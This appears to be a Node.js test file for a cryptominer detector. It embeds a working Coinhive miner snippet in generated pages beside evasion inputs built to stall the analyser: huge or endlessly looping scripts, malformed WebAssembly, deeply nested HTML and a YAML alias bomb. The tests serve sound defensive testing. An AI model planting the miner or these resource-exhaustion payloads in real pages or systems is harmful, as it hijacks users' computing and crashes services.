import assert from 'node:assert/strict'
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { readCaptures } from '#archive/import.ts'
import { spilledBlobs } from '#archive/spilled-blobs.ts'
import { pageReached } from '#derive/page-reached.ts'
import { createJudge } from '#judge/judge.ts'
import { readSignature } from '#judge/signature-file.ts'
import { loadSignatures } from '#judge/signatures.ts'

/** What somebody puts beside his miner so that nobody finds it: the miner is found all the same, and what was not read is said. */
const dir = await mkdtemp(join(tmpdir(), 'assay-hostile-'))
const judge = createJudge({
  blobs: { put: (bytes) => blobs.put(bytes), get: (digest) => blobs.get(digest), has: (digest) => blobs.has(digest) },
  signatures: await loadSignatures(),
})
let blobs = spilledBlobs()
after(async () => {
  await judge.close()
  await rm(dir, { recursive: true, force: true })
})

const miner = `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var m = new CoinHive.Anonymous('AbCdEfGhIjKlMnOpQrStUvWxYz012345'); m.start()</script>`
const megabyte = 1_048_576

const leb = (value: number): number[] => (value < 128 ? [value] : [(value & 127) | 128, ...leb(Math.floor(value / 128))])
const section = (id: number, content: Uint8Array): Buffer => Buffer.concat([Buffer.from([id, ...leb(content.length)]), content])
const module = (...sections: Uint8Array[]): Buffer => Buffer.concat([Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), ...sections])
const oneFunction = [section(1, Buffer.from([1, 0x60, 0, 0])), section(3, Buffer.from([1, 0]))]
const body = (code: Uint8Array): Buffer => section(10, Buffer.concat([Buffer.from([1, ...leb(code.length)]), code]))

/** Beside the miner: a script, a module, or what stands in the document itself. `unread`: whether something must be said of it. */
const cases: Record<string, { js?: string | Buffer; wasm?: Buffer; html?: string; unread: boolean }> = {
  'a script of 100 MB of brackets': { js: Buffer.alloc(100 * megabyte, '['), unread: true },
  'a script of 20 MB of brackets that is worth parsing': { js: `site_key;${'['.repeat(20 * megabyte)}`, unread: true },
  'a script of a million nested calls': { js: `eval(${'f('.repeat(1_000_000)}`, unread: true },
  'a script of lone surrogates and zero octets': {
    js: Buffer.from('eval("\\ud800\\udc00\\0\ud800\u0000")\u0000'.repeat(5_000), 'utf16le'),
    unread: false,
  },
  'a script that never ends': { js: `eval(atob("")); for (;;) { x = x + String.fromCharCode(1) }`, unread: false },
  'a script that doubles its text': { js: 'var a = "eval("; for (;;) { a += a; unescape(a) }', unread: false },
  'a module of ten million locals': { wasm: module(...oneFunction, body(Buffer.from([1, ...leb(10_000_000), 0x7f, 0x0b]))), unread: true },
  'a module of four thousand million locals': {
    wasm: module(...oneFunction, body(Buffer.from([1, 0xff, 0xff, 0xff, 0xff, 0x0f, 0x7f, 0x0b]))),
    unread: true,
  },
  'a module that says it is longer than it is': { wasm: module(Buffer.from([1, 0xff, 0xff, 0xff, 0xff, 0x07, 1])), unread: true },
  'a module of a million nested blocks': {
    wasm: module(
      ...oneFunction,
      body(Buffer.concat([Buffer.from([0]), Buffer.alloc(2_000_000, Buffer.from([0x02, 0x40])), Buffer.from([0x0b])])),
    ),
    unread: true,
  },
  'a hundred thousand nested elements': { html: '<div>'.repeat(100_000), unread: false },
  'half a million attributes': { html: `<p ${Array.from({ length: 500_000 }, (_, at) => at.toString(36)).join(' ')}>`, unread: false },
  'sixty thousand formats that are opened again': {
    html: `${'<b>'.repeat(300)}${'<p>'.repeat(200)}${'<a><i>'.repeat(30_000)}`,
    unread: false,
  },
  'frames within frames': {
    html: Array.from({ length: 12 }).reduce<string>(
      (inner) => `<iframe srcdoc="${inner.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`,
      '',
    ),
    unread: false,
  },
}

let count = 0
for (const [name, { js, wasm, html, unread }] of Object.entries(cases)) {
  test(`beside ${name} the miner is found`, { timeout: 600_000 }, async () => {
    await using own = spilledBlobs()
    blobs = own
    const folder = join(dir, String(count++))
    await mkdir(folder)
    if (js !== undefined) await writeFile(join(folder, 'h.js'), js)
    if (wasm !== undefined) await writeFile(join(folder, 'h.wasm'), wasm)
    const beside = js !== undefined ? '<script src="h.js"></script>' : wasm !== undefined ? '<script>fetch("h.wasm")</script>' : ''
    await writeFile(join(folder, 'index.html'), `<!doctype html><title>t</title>${miner}${beside}${html ?? ''}`)
    const [imported] = await Array.fromAsync(readCaptures(folder, own, { classify: pageReached }))
    assert.ok(imported)
    const { conclusion, blindTo, gaps } = await judge.judge(imported.capture)
    assert.equal(conclusion.status, 'loaded')
    if (unread) assert.ok(blindTo.length + (gaps ?? []).length > 0, 'nothing says that something was not read')
  })
}

test('a signature of aliases of aliases is a fault', { timeout: 60_000 }, () => {
  const lines = Array.from({ length: 40 }, (_, at) => `a${at}: &a${at} [${at === 0 ? 'x' : `*a${at - 1}, *a${at - 1}`}]`)
  const { signature, faults } = readSignature(lines.join('\n'), 'bomb.yaml')
  assert.equal(signature, null)
  assert.ok(faults.length > 0)
})
test('a signature nested ten thousand deep is a fault', { timeout: 60_000 }, () => {
  for (const text of ['[', '{a: ', '- ', '? ']) {
    const { signature, faults } = readSignature(text.repeat(10_000), 'deep.yaml')
    assert.equal(signature, null)
    assert.ok(faults.length > 0)
  }
})
